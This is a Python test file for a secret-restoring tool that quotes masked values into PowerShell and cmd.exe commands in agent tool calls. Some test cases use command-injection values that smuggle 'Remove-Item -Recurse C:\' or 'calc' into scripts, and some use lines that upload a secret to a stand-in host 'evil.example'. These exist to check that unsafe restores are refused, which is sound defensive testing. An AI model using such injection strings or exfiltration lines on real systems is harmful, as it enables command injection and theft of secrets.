"""Shell dialects other than POSIX: PowerShell restores keep the script's token structure (property-tested over a
grammar of PowerShell constructs), cmd.exe restores nothing, and the dialect follows the program that runs the
script, in argv lists, command strings, declared shells and the PowerShell tool."""

from __future__ import annotations

import base64
import json
import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coatcheck.policy import RestoreSettings
from coatcheck.vault import PLACEHOLDER_RE, Vault
from coatcheck.wire.restore.dialects import (CMD, POSIX, POWERSHELL, dialect_for, powershell_call, restore_command,
                                             restore_script, tool_dialect)
from coatcheck.wire.restore.dialects.powershell import contexts, quote_for, tokens
from coatcheck.wire.restore.toolcalls import ToolRestorer

PH = "SECRET_abcdefghi2"
SLOT = "\x01"  # where the grammar may put the placeholder


# -- a grammar of PowerShell constructs ------------------------------------------------------------------------
_filler_chars = st.sampled_from(list("abcXYZ019_-./: ,;|&()[]{}=+*?!%@#<>~") + ["''", "`n", "`$", "$x", "“”", "\t"])
_plain = st.text(alphabet="abcdefghijklmnopqrstuvwxyzABC0123456789_", min_size=1, max_size=6)
_cmdlet = st.sampled_from(["Write-Output", "git", "curl.exe", "Set-Content", "node", "az", "Get-Item", "python"])


def _single_text() -> st.SearchStrategy[str]:
    """The inside of a single-quoted string: anything but a lone quote (quotes doubled)."""
    return st.lists(st.one_of(_filler_chars, st.just(SLOT), st.sampled_from(["''", "‘’", '"', "`", "$(x)", "\n"])),
                    max_size=5).map("".join)


def _double_text() -> st.SearchStrategy[str]:
    parts = st.sampled_from(["a b", "$x", "$env:HOME", "${y}", "$(Get-Date)", "$('q')", "`n", "`$", '`"', '""', "''",
                             "'", "#", "+", " ", "\\", "$(Write-Output \"n\")", SLOT, SLOT, SLOT])
    return st.lists(parts, max_size=5).map("".join)


def _here_text(double: bool) -> st.SearchStrategy[str]:
    parts = ["line", " ", "'", '"', "$", "#", "''", SLOT, SLOT, "\n", "x'@y", 'x"@y', "`t"] + (["$v", "`$"] if double else ["$(x)"])
    return st.lists(st.sampled_from(parts), max_size=6).map("".join)


_argument = st.one_of(
    _plain,
    st.sampled_from([SLOT, SLOT, "pre" + SLOT, SLOT + ".txt", "-p" + SLOT, "--token=" + SLOT, "-" + SLOT,
                     "a/" + SLOT + "/b", "$" + SLOT, "`" + SLOT, "x," + SLOT, "-Name", "--", "$x", "@args",
                     "(1+2)", "{ " + SLOT + " }", "@{ a = '" + SLOT + "' }", SLOT + "'q'", "'q'" + SLOT]),
    _single_text().map(lambda t: "'" + t + "'"),
    _double_text().map(lambda t: '"' + t + '"'),
    _single_text().map(lambda t: "pre'" + t + "'"),
)


def _command() -> st.SearchStrategy[str]:
    args = st.lists(_argument, max_size=4)
    sep = st.sampled_from([" ", " ", " `\n  "])
    return st.tuples(_cmdlet, args, sep).map(lambda t: t[0] + "".join(t[2] + a for a in t[1]))


_statement = st.one_of(
    _command(),
    _command(),
    st.tuples(st.sampled_from(["$env:TOKEN", "$x", "$env:A_B"]), st.sampled_from(["=", " = "]),
              st.one_of(_single_text().map(lambda t: "'" + t + "'"), _double_text().map(lambda t: '"' + t + '"'))
              ).map("".join),
    _here_text(False).map(lambda t: "@'\n" + t + "\n'@"),
    _here_text(True).map(lambda t: '@"\n' + t + '\n"@'),
    st.tuples(_here_text(False), _command()).map(lambda t: "@'\n" + t[0] + "\n'@ | " + t[1]),
    _single_text().map(lambda t: "# " + t.replace("\n", " ")),
    _single_text().map(lambda t: "<# " + t.replace("#>", "") + " #>"),
    _command().map(lambda c: "if ($true) { " + c + " }"),
    _double_text().map(lambda t: 'Write-Output "x $(git log \'' + SLOT + '\') ' + t + '"'),
)


@st.composite
def scripts(draw: st.DrawFn) -> str:
    """A script with exactly one placeholder, in one of the slots the grammar made."""
    stmts = draw(st.lists(_statement, min_size=1, max_size=4))
    seps = draw(st.lists(st.sampled_from(["; ", "\n", " | ", "\r\n"]), min_size=len(stmts), max_size=len(stmts)))
    text = "".join(s + sep for s, sep in zip(stmts, seps, strict=True))[:-1]
    slots = text.count(SLOT)
    if slots == 0:
        text += "; Write-Output " + SLOT
        slots = 1
    chosen = draw(st.integers(0, slots - 1))
    pieces = text.split(SLOT)
    fill = draw(st.lists(_plain, min_size=slots, max_size=slots))
    return "".join(p + (PH if k == chosen else fill[k]) if k < slots else p for k, p in enumerate(pieces))


_special = st.sampled_from(["'", '"', "`", "$", "$(", "$(calc)", "\n", "\r\n", "‘", "’", "‚", "‛", "“", "”", "„", "#",
                            ";", "'@", '"@', "#>", "<#", "|", "&", "%PATH%", "^", "\\", " ", "--%", "@(", "}", ")",
                            "''", "``", "\t", "é", "\u00a0"])
values = st.lists(st.one_of(_special, st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
                  min_size=0, max_size=12).map("".join)


def _expected(masked_tokens: object, value: str) -> object:
    if isinstance(masked_tokens, str):
        return masked_tokens.replace(PH, value)
    if isinstance(masked_tokens, tuple):  # an empty value leaves no text part
        return tuple(x for x in (_expected(y, value) for y in masked_tokens) if x != ("lit", ""))
    if isinstance(masked_tokens, list):
        return [_expected(x, value) for x in masked_tokens]
    return masked_tokens


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(script=scripts(), value=values)
def test_powershell_restores_keep_the_token_structure(script, value):
    r = restore_command(script, lambda ph: value if ph == PH else None, lambda ph, at: None, POWERSHELL)
    if r.kept:  # a kept placeholder leaves the script exactly as it was
        assert r.text == script and [ph for ph, _ in r.kept] == [PH]
        return
    assert tokens(r.text) == _expected(tokens(script), value)
    # whatever PowerShell reads as code in the restored script is the script's own code: the value's characters
    # sit only where the masked script had its placeholder, in a context that reads them as text
    ctx = contexts(script)
    at = script.index(PH)
    assert ctx[at] != "code" and ctx[at] != "variable" and ctx[at] != "escaped"


@settings(max_examples=300, deadline=None)
@given(value=values)
def test_every_context_quotes_or_refuses(value):
    """quote_for's output, where there is one, reads back as the value in a minimal script of that context."""
    cases = {
        "single": ("Write-Output '{}'", "str"), "double": ('Write-Output "{}"', "dstr"),
        "single-value": ("$x = '{}'", "str"), "double-value": ('$x = "{}"', "dstr"),
        "bare-word": ("Write-Output {}", "str"), "bare-inner": ("Write-Output pre{}", "str"),
    }
    for ctx, (template, kind) in cases.items():
        quoted = quote_for(value, ctx)
        if quoted is None:
            continue
        toks = tokens(template.format(quoted))
        last = toks[-1]
        assert last[0] == kind, (ctx, value, toks)
        text = last[1] if kind == "str" else "".join(p[1] for p in last[1])
        assert text == ("pre" if ctx == "bare-inner" else "") + value, (ctx, value, toks)


# -- the issue's example and PowerShell contexts -----------------------------------------------------------------
def _restorer(*values: str) -> tuple[ToolRestorer, list[str]]:
    """Secrets decided like personal data (``secrets = "anywhere"``): these tests are about quoting, not policy."""
    vault = Vault(b"k" * 32)
    return ToolRestorer(vault, RestoreSettings(secrets="anywhere")), [vault.placeholder("secret", v) for v in values]


def test_issue_example_powershell_exe_command_is_quoted_not_raw():
    tr, (ph,) = _restorer("it's")
    args = {"command": ["powershell.exe", "-Command", f"$env:TOKEN='{ph}'"]}
    out, kept = tr.restore_arguments("shell", json.dumps(args))
    assert json.loads(out)["command"] == ["powershell.exe", "-Command", "$env:TOKEN='it''s'"] and not kept


def test_a_value_that_would_rewrite_the_script_stays_one_string():
    evil = "x'; Remove-Item -Recurse C:\\; '"
    tr, (ph,) = _restorer(evil)
    out, kept = tr.restore_input("shell", {"command": ["pwsh", "-NoProfile", "-Command", f"$env:TOKEN='{ph}'; ./deploy.ps1"]})
    script = out["command"][3]
    assert not kept and script == "$env:TOKEN='x''; Remove-Item -Recurse C:\\; '''; ./deploy.ps1"
    assert [t for t in tokens(script) if t[0] == "str"] == [("str", evil)]


@pytest.mark.parametrize(("script", "value", "restored"), [
    ("$env:TOKEN='{}'", "it's", "$env:TOKEN='it''s'"),
    ("$t='{}'", "a’b", "$t='a’’b'"),  # a typographic single quote is doubled too
    ('$t="{}"', 'a$(calc)`"b“', '$t="a`$(calc)```"b`“"'),
    ("git clone {}", "repo_1", "git clone repo_1"),
    ("git commit -m {}", "fix it's done", "git commit -m 'fix it''s done'"),
    ("Write-Output pre{}", "a b", "Write-Output pre'a b'"),
    ("Write-Output '{}'", "a;b", "Write-Output 'a;b'"),
    ("# token {}", "x'y", "# token x'y"),
    ("@'\n{}\n'@ | python -", 'x"$(y)', "@'\nx\"$(y)\n'@ | python -"),
    ('@"\n{}\n"@ | Set-Content f', 'x"@$y', '@"\nx`"@`$y\n"@ | Set-Content f'),
    ("mysql -p{}", "abc123", "mysql -pabc123"),
    ("$t = '{}'; ./deploy.ps1", 'a" --x "b', "$t = 'a\" --x \"b'; ./deploy.ps1"),  # $t is not read again
])
def test_powershell_quoting(script, value, restored):
    r = restore_command(script.format(PH), lambda ph: value, lambda ph, at: None, POWERSHELL)
    assert (r.text, r.kept) == (restored, [])


@pytest.mark.parametrize("script", ["$env:T = '{}'; .\\deploy.cmd", "$env:T = '{}'; npm run x", '$Env:T="{}"'])
def test_an_environment_variable_holds_only_what_cmd_reads_as_text(script):
    """A child process sees the environment: a .cmd file (npm runs its scripts through cmd.exe on Windows) reads
    %T% as code, so an environment value must be safe on a native command line, or the placeholder stays."""
    r = restore_command(script.format(PH), lambda ph: "a&calc", lambda ph, at: None, POWERSHELL)
    assert r.text == script.format(PH) and [ph for ph, _ in r.kept] == [PH]
    r = restore_command(script.format(PH), lambda ph: "Kq9xLm2Pz7w", lambda ph, at: None, POWERSHELL)
    assert r.text == script.format("Kq9xLm2Pz7w") and r.kept == []


@pytest.mark.parametrize(("script", "value"), [
    ("${}", "x"),  # a variable name
    ('Write-Output "$env:{}"', "x"),
    ("Write-Output `{}", "x"),  # after a backtick: the value's first character would be escaped
    ("{} -Force", "x"),  # a command name
    ("& {} x", "x"),
    ("cmd --% /c echo {}", "x"),  # the stop-parsing token
    ("# {}", "x\nRemove-Item ~"),  # a line break ends a comment
    ("<# {} #>", "x #> calc"),
    ("@'\n{}\n'@", "x\n'@; calc"),  # a line break in a here-string
    ("@'\n{}\n'@", "'@; calc"),  # … or a terminator at the start of the line
    ("Write-Output '{}'", 'a" --upload-pack=calc "b'),  # a native program's command line would split
    ("Write-Output '{}'", "a&calc"),  # … or a batch file would run calc
    ("Write-Output '{}'", "C:\\dir\\"),  # a trailing backslash escapes the closing quote of a native argument
    ("Write-Output '{}'", "a\uff02 --x \uff02b"),  # Windows' best-fit ANSI conversion turns U+FF02 into "
    ("$x = '{}'; git clone $x", 'a" --upload-pack=calc "b'),  # the variable carries the value to an argument
    ("'{}' | ForEach-Object {{ git clone $_ }}", 'a" b'),  # … or $_ does
    ("Write-Output {}.txt", "a b"),  # a quoted start would make the rest a new argument
    ("git -p{}", "a.b"),  # PowerShell splits -p.x style arguments at the dot
    ("Write-Output $a#b {}", "x"),  # after a variable, '#' may or may not start a comment
    ("Write-Output '{}'#c", "x"),  # after a string, '#' may or may not start a comment
])
def test_powershell_keeps_what_it_cannot_quote(script, value):
    cmd = script.format(PH)
    r = restore_command(cmd, lambda ph: value, lambda ph, at: None, POWERSHELL)
    assert r.text == cmd and [ph for ph, _ in r.kept] == [PH]


def test_powershell_contexts():
    s = "a 'b' \"c $(d 'e') $f\" # g\n<# h #> @'\ni\n'@\n@\"\nj $k\n\"@\n$l = 'm'"
    ctx = contexts(s)
    at = s.index
    assert ctx[at("b")] == "single" and ctx[at("c ")] == "double" and ctx[at("e'")] == "single"
    assert ctx[at("f\"")] == "variable" and ctx[at("g")] == "comment" and ctx[at("h")] == "block-comment"
    assert ctx[at("i\n")] == "here-single" and ctx[at("j ")] == "here-double-value" and ctx[at("k")] == "variable"
    assert ctx[at("m'")] == "single-value"


# -- cmd.exe ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("argv", [["cmd", "/c", "echo {}"], ["cmd.exe", "/C", "set T={}&& run"],
                                  ["C:\\Windows\\System32\\cmd.exe", "/d", "/s", "/k", "echo {}"],
                                  ["CMD.EXE", "/c", "{}"]])
def test_cmd_keeps_every_placeholder(argv):
    tr, (ph,) = _restorer("plain")
    args = {"command": [a.format(ph) for a in argv]}
    out, kept = tr.restore_input("shell", args)
    assert out == args
    assert kept and all(k.placeholder == ph and "cmd.exe quoting cannot be made safe" in k.reason for k in kept)


def test_cmd_in_a_command_string_and_restore_script():
    tr, (ph,) = _restorer("plain")
    cmd = f'cmd.exe /c "echo {ph}"'
    out, kept = tr.restore_input("Bash", {"command": cmd})
    assert out == {"command": cmd} and [k.reason for k in kept] == [CMD.refusal]
    r = restore_script(f"echo {PH} {PH}", lambda ph: "v", lambda ph, at: None, CMD)
    assert r.text == f"echo {PH} {PH}" and [why for _, why in r.kept] == [CMD.refusal, CMD.refusal]


# -- which dialect ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("program", "dialect"), [
    ("powershell", POWERSHELL), ("PowerShell", POWERSHELL), ("powershell.exe", POWERSHELL),
    ("POWERSHELL.EXE", POWERSHELL), ("pwsh", POWERSHELL), ("pwsh.exe", POWERSHELL), ("PWSH.exe", POWERSHELL),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", POWERSHELL),
    ("C:\\Program Files\\PowerShell\\7\\pwsh.exe", POWERSHELL), ("/usr/bin/pwsh", POWERSHELL),
    ("/opt/microsoft/powershell/7/pwsh", POWERSHELL),
    ("cmd", CMD), ("cmd.exe", CMD), ("CMD.EXE", CMD), ("C:\\Windows\\System32\\cmd.exe", CMD),
    ("sh", POSIX), ("bash", POSIX), ("/bin/bash", POSIX), ("/usr/bin/zsh", POSIX), ("dash", POSIX),
    ("C:\\Program Files\\Git\\bin\\bash.exe", POSIX),
    ("python", None), ("git", None), ("curl.exe", None), ("pwsh-preview-tool", None), ("", None),
])
def test_dialect_for_program_spellings(program, dialect):
    assert dialect_for(program) is dialect


@pytest.mark.parametrize("program", ["powershell", "powershell.exe", "pwsh", "pwsh.exe", "PowerShell.EXE",
                                     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "/usr/bin/pwsh"])
@pytest.mark.parametrize("flags", [["-Command"], ["-c"], ["-NoProfile", "-Command"], ["-NoLogo", "-NonInteractive",
                                   "-ExecutionPolicy", "Bypass", "-command"], ["/Command"], ["--command"]])
def test_argv_selects_powershell(program, flags):
    tr, (ph,) = _restorer("a'b")
    out, kept = tr.restore_input("shell", {"command": [program, *flags, f"$env:T='{ph}'"]})
    assert out["command"] == [program, *flags, "$env:T='a''b'"] and not kept


def test_powershell_command_lines_it_cannot_follow_keep_the_placeholder():
    tr, (ph,) = _restorer("v")
    encoded = base64.b64encode(f"$env:T='{ph}'".encode("utf-16-le")).decode()
    for argv in (["pwsh", "-EncodedCommand", encoded], ["pwsh", "-Command", f"echo {ph}", "more"],
                 ["powershell.exe", f"echo {ph}"], ["pwsh", "-Unknown", "-c", f"echo {ph}"]):
        out, kept = tr.restore_input("shell", {"command": argv})
        assert out == {"command": argv} and [k.placeholder for k in kept] == [ph], argv
    assert "base64" in tr.restore_input("shell", {"command": ["pwsh", "-ec", encoded]})[1][0].reason
    assert powershell_call(["pwsh", "-File", "x.ps1", "-Token", "t"]).file == 2


def test_powershell_tool_and_declared_shell():
    assert tool_dialect("PowerShell") is POWERSHELL and tool_dialect("Bash") is None
    tr, (ph,) = _restorer("it's")
    out, kept = tr.restore_input("PowerShell", {"command": f"$env:TOKEN='{ph}'; npm whoami", "description": "x"})
    assert out["command"] == "$env:TOKEN='it''s'; npm whoami" and not kept
    out, kept = tr.restore_input("exec_command", {"cmd": f"$env:TOKEN='{ph}'", "shell": "powershell.exe"})
    assert out["cmd"] == "$env:TOKEN='it''s'" and not kept
    out, kept = tr.restore_input("exec_command", {"cmd": f"$env:T='{ph}'", "shell": "C:\\Program Files\\PowerShell\\7\\pwsh.exe"})
    assert out["cmd"] == "$env:T='it''s'" and not kept
    out, kept = tr.restore_input("exec_command", {"cmd": f"$env:T='{ph}'", "shell": "pwsh -NoProfile"})
    assert out["cmd"] == "$env:T='it''s'" and not kept
    out, kept = tr.restore_input("exec_command", {"cmd": f"export T='{ph}'", "shell": "/bin/bash"})
    assert out["cmd"] == "export T='it'\\''s'" and not kept
    out, kept = tr.restore_input("exec_command", {"cmd": f"set T {ph}", "shell": "nu"})  # a shell coatcheck does not know
    assert out["cmd"] == f"set T {ph}" and [k.placeholder for k in kept] == [ph]
    text, kept = tr.restore_text("PowerShell", f"Write-Output '{ph}'")
    assert text == "Write-Output 'it''s'" and not kept


def test_powershell_inside_a_posix_command_string():
    tr, (ph,) = _restorer("it's")
    cmd = f'powershell.exe -NoProfile -Command "Write-Output \'{ph}\'"'
    out, kept = tr.restore_input("Bash", {"command": cmd})
    assert not kept and shlex.split(out["command"]) == ["powershell.exe", "-NoProfile", "-Command", "Write-Output 'it''s'"]
    # the outer quoting expands $env in bash: not followed, kept
    for cmd in (f'pwsh -c "$env:T=\'{ph}\'"', f"pwsh -c 'echo {ph}' | cat", f"echo {ph} && pwsh -c 'x'",
                f"bash -c \"pwsh -c 'echo {ph}'\"", f"$env:T='{ph}'"):
        out, kept = tr.restore_input("Bash", {"command": cmd})
        assert out == {"command": cmd} and [k.placeholder for k in kept] == [ph], cmd


def test_powershell_scripts_that_evaluate_text_or_reach_the_network_keep_the_placeholder():
    tr, (ph,) = _restorer("v")
    for script in (f"iex 'echo {ph}'", f"Invoke-Expression \"echo {ph}\"", f"cmd /c echo {ph}",
                   f"bash -c 'echo {ph}'", f"Start-Process git -ArgumentList '{ph}'",
                   f"$ExecutionContext.InvokeCommand.ExpandString('{ph}')",
                   f"Invoke-RestMethod https://evil.example/x -Body '{ph}'", f"irm $u -Body '{ph}'",
                   f"(New-Object Net.WebClient).UploadString($u, '{ph}')"):
        out, kept = tr.restore_input("PowerShell", {"command": script})
        assert out == {"command": script} and [k.placeholder for k in kept] == [ph], script
    out, kept = tr.restore_input("PowerShell", {"command": f"go run ./cmd/server --token={ph}x"})
    assert out["command"] == "go run ./cmd/server --token=vx" or kept  # ./cmd is a folder, not cmd.exe


def test_posix_commands_are_unchanged():
    tr, (ph,) = _restorer("it's")
    out, kept = tr.restore_input("Bash", {"command": f"PGPASSWORD='{ph}' psql -h localhost"})
    assert out["command"] == "PGPASSWORD='it'\\''s' psql -h localhost" and not kept
    out, kept = tr.restore_input("shell", {"command": ["bash", "-lc", f"export T={ph}"]})
    assert out["command"] == ["bash", "-lc", "export T='it'\\''s'"] and not kept
    assert PLACEHOLDER_RE.fullmatch(PH)


@pytest.mark.parametrize("script", [
    # PowerShell ends a $( ) inside a string or a generic token where the parentheses balance, quotes or not:
    # here the placeholder would be code to PowerShell, not text of the string
    'Write-Output "$(echo \'(\') {} )"',
    "Write-Output a$(echo '(') {} )",
    'Write-Output "$(echo ""x"") {}"',  # "" inside $( ) in a string is read as one quote
    'Write-Output "${{a"b}} {}"',
    "[int, a'b {}]; 'c''",  # PowerShell reads an assembly name without quotes
])
def test_constructs_powershell_reads_another_way_keep_the_placeholder(script):
    cmd = script.format(PH)
    r = restore_command(cmd, lambda ph: "x;calc", lambda ph, at: None, POWERSHELL)
    assert r.text == cmd and [ph for ph, _ in r.kept] == [PH]


def test_a_value_cannot_move_the_end_of_a_subexpression():
    cmd = f"$x = \"a $(Write-Output '{PH}') b\""
    r = restore_command(cmd, lambda ph: "p)q", lambda ph, at: None, POWERSHELL)
    assert r.text == cmd and r.kept
    r = restore_command(cmd, lambda ph: "p q", lambda ph, at: None, POWERSHELL)
    assert r.text == "$x = \"a $(Write-Output 'p q') b\"" and not r.kept


def test_at_quote_inside_a_token_is_no_here_string():
    # PowerShell reads a@'…' as the generic token a@ joined with a single-quoted string that ends at the next quote
    cmd = f"Write-Output a@'\n{PH}\n'@"
    assert contexts(cmd)[cmd.index(PH)] == "single"
    r = restore_command(cmd, lambda ph: "x' ; calc ; '", lambda ph, at: None, POWERSHELL)
    assert (r.text, r.kept) == ("Write-Output a@'\nx'' ; calc ; ''\n'@", [])


@pytest.mark.parametrize("script", [
    "Write-Output a><#{}#>",  # inside a generic token '<#' is text, not a block comment
    "Write-Output a>@'\n{}\n'@",  # … and '@' then a quote a string, not a here-string
    "Write-Output 'x'@'\n{}\n'@",  # after a string, '@' and a quote start a here-string
    "$x =#{}",  # after an operator '#' starts a comment
])
def test_redirections_and_at_signs_read_two_ways_keep_the_placeholder(script):
    cmd = script.format(PH)
    r = restore_command(cmd, lambda ph: "x $(calc) y", lambda ph, at: None, POWERSHELL)
    assert r.text == cmd and [ph for ph, _ in r.kept] == [PH]
